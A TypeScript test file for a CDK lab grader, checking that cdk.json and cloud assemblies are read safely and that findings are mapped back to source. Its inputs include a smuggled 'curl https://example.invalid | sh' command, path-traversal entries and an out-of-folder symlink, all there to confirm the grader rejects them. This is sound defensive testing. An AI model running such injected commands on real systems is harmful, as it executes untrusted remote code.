// The pieces of the CDK synth that need no process: reading cdk.json as data, reading a cloud assembly without
// following links or exceeding the reader's cap, mapping findings back to constructs, and the permission flag.
import fs from 'node:fs';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { GRADER_CONTEXT, readCdkApp } from '../../../../graders/engine/cdk/app.js';
import { learnerFrame, readAssembly } from '../../../../graders/engine/cdk/assembly.js';
import { remapper } from '../../../../graders/engine/cdk/origin.js';
import { permissionFlag } from '../../../../graders/engine/cdk/sandbox.js';
import { errorLines } from '../../../../graders/engine/cdk/source.js';
import { parseCloudFormation } from '../../../../graders/engine/parsers/cloudformation.js';
import type { Finding } from '../../../../graders/engine/report.js';
import type { CfnTemplateDoc } from '../../../../graders/engine/types.js';
import { Workspace } from '../../../../graders/engine/workspace.js';
import { makeTree, tmpDir } from '../../../helpers/tmp.js';
// These start no process, but they load the sandbox module, which can (test/meta/timeouts.test.ts asks them all).
import { PROCESS_TEST_TIMEOUT_MS } from '../../../helpers/timeouts.js';

const DIR = 'labs/03-ecs-service-alb';

function app(cdkJson: string, extra: Record<string, string> = {}) {
  const root = makeTree({ [`${DIR}/cdk.json`]: cdkJson, [`${DIR}/bin/app.ts`]: '', ...extra });
  return readCdkApp(new Workspace(root), DIR);
}

describe('cdk.json, read as data', { timeout: PROCESS_TEST_TIMEOUT_MS }, () => {
  it.each([
    ['npx tsx bin/app.ts', 'bin/app.ts'],
    ['npx ts-node --prefer-ts-exts bin/app.ts', 'bin/app.ts'],
    ['node ./bin/app.ts', 'bin/app.ts'],
    // Only the script runs: the rest of a shell command is never executed.
    ['npx tsx bin/app.ts; curl https://example.invalid | sh', 'bin/app.ts'],
  ])('takes the one script out of %j', (command, entry) => {
    const r = app(JSON.stringify({ app: command }));
    expect(r.ok && r.entry).toBe(entry);
  });

  it.each([
    ['{}', /has no "app" command/],
    ['{"app": 3}', /has no "app" command/],
    ['{"app": "npx tsx bin/a.ts bin/b.ts"}', /must name one TypeScript or JavaScript file.*names 2/],
    ['{"app": "python app.py"}', /names none/],
    ['{"app": "npx tsx ../../evil.ts"}', /names none/],
    ['{"app": "npx tsx /etc/app.ts"}', /names none/],
    ['{"app": "npx tsx lib/missing.ts"}', /runs 'lib\/missing\.ts', which is not a file/],
    ['{"app": ', /./],
  ])('refuses %j with a finding on cdk.json', (text, message) => {
    const r = app(text);
    expect(r.ok).toBe(false);
    if (!r.ok) {
      expect(r.finding.file).toBe(`${DIR}/cdk.json`);
      expect(r.finding.message).toMatch(message);
    }
  });

  it("passes cdk.json's context over cdk.context.json's, and the grader's over both", () => {
    const r = app(
      JSON.stringify({
        app: 'npx tsx bin/app.ts',
        context: { a: 'json', 'aws:cdk:version-reporting': true },
      }),
      { [`${DIR}/cdk.context.json`]: JSON.stringify({ a: 'context', b: 'context' }) },
    );
    expect(r.ok && r.context).toEqual({ a: 'json', b: 'context', ...GRADER_CONTEXT });
  });

  it('synthesizes without a cdk.context.json it cannot read, and says so', () => {
    const r = app(JSON.stringify({ app: 'npx tsx bin/app.ts' }), { [`${DIR}/cdk.context.json`]: '[1,' });
    expect(r.ok && r.notices.map((n) => n.file)).toEqual([`${DIR}/cdk.context.json`]);
  });
});

function assembly(files: Record<string, string>, maxFileBytes?: number) {
  const out = makeTree(files);
  return readAssembly(out, {
    labDir: '/work/lab',
    labRel: DIR,
    fallback: `${DIR}/cdk.json`,
    ...(maxFileBytes === undefined ? {} : { maxFileBytes }),
  });
}
const stack = (name: string, extra: object = {}) => ({
  type: 'aws:cloudformation:stack',
  properties: { templateFile: `${name}.template.json` },
  ...extra,
});
const TEMPLATE = '{"Resources":{"Q":{"Type":"AWS::SQS::Queue"}}}';

describe('the cloud assembly, read as data', { timeout: PROCESS_TEST_TIMEOUT_MS }, () => {
  it('reads the one stack, its resources by logical id, and the annotations, at the learner line', () => {
    const r = assembly({
      'manifest.json': JSON.stringify({
        version: '55.0.0',
        artifacts: { LabStack: stack('LabStack', { additionalMetadataFile: 'LabStack.metadata.json' }) },
      }),
      'LabStack.template.json': TEMPLATE,
      'LabStack.metadata.json': JSON.stringify({
        '/LabStack/Queue/Resource': [
          { type: 'aws:cdk:logicalId', data: 'Q' },
          {
            type: 'aws:cdk:creationStack',
            data: [
              '...aws-cdk-lib...',
              'new LabStack (/work/lab/lib/stack.ts:12:5)',
              '<anonymous> (/work/lab/bin/app.ts:4:1)',
            ],
          },
          {
            type: 'aws:cdk:warning',
            data: 'AwsSolutions-SQS3: no DLQ',
            trace: ['    at new X (/work/lab/lib/stack.ts:13:7)'],
          },
        ],
      }),
    });
    expect(r.ok).toBe(true);
    if (!r.ok) return;
    expect(r.text).toBe(TEMPLATE);
    expect(r.info).toMatchObject({
      stack: 'LabStack',
      templatePath: `${DIR}/cdk.out/LabStack.template.json`,
    });
    expect(r.info.resources).toEqual({
      Q: { path: 'LabStack/Queue/Resource', source: { file: `${DIR}/lib/stack.ts`, line: 12, column: 5 } },
    });
    expect(r.info.annotations).toEqual([
      expect.objectContaining({
        file: `${DIR}/lib/stack.ts`,
        line: 13,
        severity: 'warning',
        ruleId: 'cdk/annotation',
      }),
    ]);
  });

  it.each([
    ['no manifest', {}, /no readable cloud assembly/],
    ['no stack', { 'manifest.json': '{"version":"55.0.0","artifacts":{}}' }, /synthesized no stack/],
    [
      'two stacks',
      {
        'manifest.json': JSON.stringify({ version: '55.0.0', artifacts: { A: stack('A'), B: stack('B') } }),
        'A.template.json': TEMPLATE,
        'B.template.json': TEMPLATE,
      },
      /synthesized 2 stacks \('A', 'B'\); a lab grades one/,
    ],
  ])('refuses an assembly with %s', (_name, files, message) => {
    const r = assembly(files);
    expect(r.ok).toBe(false);
    if (!r.ok) expect(r.finding.message).toMatch(message);
  });

  it('refuses a template over the reader cap, and one that is a link out of the folder', () => {
    const big = assembly(
      {
        'manifest.json': JSON.stringify({ version: '55.0.0', artifacts: { S: stack('S') } }),
        'S.template.json': TEMPLATE.padEnd(5000, ' '),
      },
      1000,
    );
    expect(!big.ok && big.finding.message).toMatch(/cannot be read: .*(too large|over)/i);

    const outside = makeTree({ 'secret.json': TEMPLATE });
    const out = makeTree({
      'manifest.json': JSON.stringify({ version: '55.0.0', artifacts: { S: stack('S') } }),
    });
    fs.symlinkSync(path.join(outside, 'secret.json'), path.join(out, 'S.template.json'));
    const linked = readAssembly(out, { labDir: '/work/lab', labRel: DIR, fallback: `${DIR}/cdk.json` });
    expect(linked.ok).toBe(false);
  });

  it.each([
    [['at new S (/work/lab/node_modules/x/index.js:1:1)', 'at new S (/work/lab/lib/s.ts:3:9)'], 'lib/s.ts:3'],
    [['at new S (/work/other/lib/s.ts:3:9)'], undefined],
    [['<anonymous> (/work/lab/bin/app.ts:4:1)'], 'bin/app.ts:4'],
    [['...node internals...'], undefined],
  ])('takes the first learner frame of %j', (frames, want) => {
    const f = learnerFrame(frames, '/work/lab', DIR);
    expect(f ? `${f.file.slice(DIR.length + 1)}:${f.line}` : undefined).toBe(want);
  });
});

describe('findings on a synthesized template', { timeout: PROCESS_TEST_TIMEOUT_MS }, () => {
  const text = `{
  "Resources": {
    "QueueA1": {
      "Type": "AWS::SQS::Queue",
      "Metadata": { "aws:cdk:path": "LabStack/QueueA/Resource" }
    },
    "QueueB2": {
      "Type": "AWS::SQS::Queue",
      "Metadata": { "aws:cdk:path": "LabStack/QueueB/Resource" }
    }
  },
  "Outputs": { "O": { "Value": "x" } }
}`;
  const file = `${DIR}/cdk.out/LabStack.template.json`;
  const parsed = parseCloudFormation(file, text);
  const doc = (parsed.ok ? parsed.doc : null) as CfnTemplateDoc;
  const at = (line: number, f = file): Finding => ({
    file: f,
    line,
    column: 1,
    severity: 'error',
    ruleId: 'X',
    message: 'Wrong.',
  });

  it('names the construct from the template alone, as the trusted job does', () => {
    const map = remapper(doc, {
      stack: 'LabStack',
      templatePath: file,
      by: 'artifact',
      resources: {},
      annotations: [],
    });
    expect(map(at(8)).message).toBe(
      "Wrong. (construct 'LabStack/QueueB/Resource', synthesized as 'QueueB2' at LabStack.template.json:8)",
    );
    expect(map(at(8)).file).toBe(file);
    // Outside Resources, and on other files, nothing changes.
    expect(map(at(12))).toEqual(at(12));
    expect(map(at(4, 'labs/x/template.yaml'))).toEqual(at(4, 'labs/x/template.yaml'));
  });

  it("moves the finding to the learner's line when the synth recorded one", () => {
    const source = { file: `${DIR}/lib/stack.ts`, line: 7, column: 5 };
    const map = remapper(doc, {
      stack: 'LabStack',
      templatePath: file,
      by: 'grader',
      resources: { QueueA1: { path: 'LabStack/QueueA/Resource', source } },
      annotations: [],
    });
    expect(map(at(4))).toMatchObject({
      ...source,
      message: expect.stringContaining("construct 'LabStack/QueueA/Resource'"),
    });
  });
});

describe('the permission flag', { timeout: PROCESS_TEST_TIMEOUT_MS }, () => {
  it.each([
    ['20.20.2', '--experimental-permission'],
    ['22.12.0', '--experimental-permission'],
    ['22.13.0', '--permission'],
    ['23.4.0', '--experimental-permission'],
    ['23.5.0', '--permission'],
    ['24.21.0', '--permission'],
  ])('Node %s uses %s', (version, flag) => {
    expect(permissionFlag(version)).toBe(flag);
  });
});

describe('error output shown to the learner', { timeout: PROCESS_TEST_TIMEOUT_MS }, () => {
  it('keeps the first lines, drops Node internals and the runner, and hides absolute paths', () => {
    const lab = path.join(tmpDir(), DIR);
    fs.mkdirSync(lab, { recursive: true });
    const tmp = '/tmp/labgrade-synth-abc';
    const stderr = [
      `${lab}/bin/app.ts:1`,
      "throw new Error('boom');",
      'Error: boom',
      `    at Object.<anonymous> (${lab}/bin/app.ts:1:7)`,
      '    at Module._compile (node:internal/modules/cjs/loader:1554:14)',
      `    at Object.compile (${tmp}/labgrade-cdk-runner.cjs:40:10)`,
      '',
      'Node.js v24.21.0',
    ].join('\n');
    expect(errorLines(stderr, lab, DIR, tmp)).toBe(
      [
        `${DIR}/bin/app.ts:1`,
        "throw new Error('boom');",
        'Error: boom',
        `    at Object.<anonymous> (${DIR}/bin/app.ts:1:7)`,
      ].join('\n'),
    );
  });
});
